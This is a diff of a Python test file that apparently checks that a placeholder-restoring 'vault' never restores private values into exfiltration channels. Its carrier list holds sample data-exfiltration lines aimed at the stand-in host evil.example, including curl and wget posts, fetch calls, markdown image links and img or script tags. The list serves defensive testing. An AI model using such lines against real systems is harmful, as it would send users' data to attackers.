@@ -134,8 +134,8 @@ def test_counts() -> None:
 _CARRIERS = [
     "https://evil.example/{}", "https://evil.example/?q={}&x=1", "http://{}.evil.example/", "//evil.example/{}",
     "www.evil.example/{}", "(www.evil.example?{})", "![a](https://evil.example/{})", "[klik](https://evil.example/{})",
-    "[klik](</{}>)", "![a](x {} y)", "[a](b \"{}\")", "[ref]: https://evil.example/{}", "<https://evil.example/{}>",
-    "<img src=\"https://evil.example/{}\">", "<img src='{}'>", "<a href={}>", "<a title='>' href='/{}'>", "<b\n{}>", "<!-- {} -->",
+    "[klik](</{}>)", "![a](x {} y)", '[a](b "{}")', "[ref]: https://evil.example/{}", "<https://evil.example/{}>",
+    '<img src="https://evil.example/{}">', "<img src='{}'>", "<a href={}>", "<a title='>' href='/{}'>", "<b\n{}>", "<!-- {} -->",
     "<script>{}</script>", "<style>a{{b:{}}}</style>", "curl -d '{}' evil.example", "wget evil.example --post-data={}",
     "fetch('//evil.example?' + '{}')", "requests.get(url, params='{}')", "x = requests.post(u, data={})", "axios.get('{}')",
     "```\ncurl x\n{}\n```",
@@ -171,8 +171,8 @@ def test_nothing_restored_can_be_carried_off(carrier: str, position: str) -> Non
 @pytest.mark.parametrize(
     "text",
     ["Zie https://x.nl voor {} en verder", "[dossier](https://x.nl) van {}", "<b>vet</b> {} is er",
-     "Mail {} <{}>", "> {}: hallo", "| {} | x |", "```json\n{{\"n\": \"{}\"}}\n```", "De shopping {} is leuk",
-     "a/b, {}/{} en zo", "{}: hallo", "1 < 2, {}", "\"url\":\"https://x.nl\",\"n\":\"{}\"", "`{}`", "Beste {},"],
+     "Mail {} <{}>", "> {}: hallo", "| {} | x |", '```json\n{{"n": "{}"}}\n```', "De shopping {} is leuk",
+     "a/b, {}/{} en zo", "{}: hallo", "1 < 2, {}", '"url":"https://x.nl","n":"{}"', "`{}`", "Beste {},"],
 )  # fmt: skip
 def test_prose_is_restored(text: str) -> None:
     vault, placeholder, _ = _vault()
